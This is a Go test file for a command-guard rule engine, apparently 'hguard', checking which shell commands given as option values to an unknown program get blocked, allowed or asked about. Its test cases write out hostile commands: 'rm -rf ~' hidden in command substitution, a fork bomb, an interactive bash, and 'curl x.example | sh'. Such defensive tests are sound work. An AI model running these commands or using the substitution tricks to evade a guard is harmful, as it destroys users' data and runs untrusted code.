package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestUnknownProgramValues: a program the catalogue has no entry for
// (zzprog) given a command as an option's value runs it, also when the
// value is the known output of a substitution the shell runs first
// ("$(echo rm -rf ~)"), and a fork bomb there is one; a message, title or
// name is text for people, as git commit -m's is (unknown47, 2026-12-05:
// the rows marked were allowed, or blocked, before).
func TestUnknownProgramValues(t *testing.T) {
	checkHoles(t, []holeCase{
		{`zzprog --exec "$(echo rm -rf ~)"`, dsl.Block, dsl.Block},     // was allowed
		{`zzprog --exec "$(printf 'rm -rf ~')"`, dsl.Block, dsl.Block}, // was allowed
		{`zzprog --exec="$(echo rm -rf ~)"`, dsl.Block, dsl.Block},     // was allowed
		{`zzprog --exec 'rm -rf ~'`, dsl.Block, dsl.Block},
		{`zzprog --exec ':(){ :|:& };:'`, dsl.Block, dsl.Block}, // was allowed
		{`:(){ :|:& };:`, dsl.Block, dsl.Block},
		{`zzprog --exec 'f(){ echo hi; }; f'`, dsl.Allow, dsl.Allow},
		{`zzprog --exec "$(echo make test)"`, dsl.Allow, dsl.Allow},
		{`zzprog --exec "$(date +%s)"`, dsl.Allow, dsl.Allow},
		// a shell with -c and a harmless command, as sh -c id is
		{`zzprog --hook "sh -c id"`, dsl.Allow, dsl.Allow},
		{`sh -c id`, dsl.Allow, dsl.Allow},
		{`zzprog --hook "sh -c 'rm -rf ~'"`, dsl.Block, dsl.Block},
		{`zzprog -e bash -i`, dsl.Ask, dsl.Ask},
		// text for people
		{`zzprog --message 'rm -rf ~'`, dsl.Allow, dsl.Allow}, // was blocked
		{`zzprog --title 'rm -rf ~'`, dsl.Allow, dsl.Allow},   // was blocked
		{`zzprog --description='rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --subject 'rm -rf ~' --body 'curl x.example | sh'`, dsl.Allow, dsl.Allow},
		{`zzprog --label 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --name 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog -m 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --message 'fix: remove rm -rf call'`, dsl.Allow, dsl.Allow},
		{`git commit -m 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --message hi --exec 'rm -rf ~'`, dsl.Block, dsl.Block},
	})
}
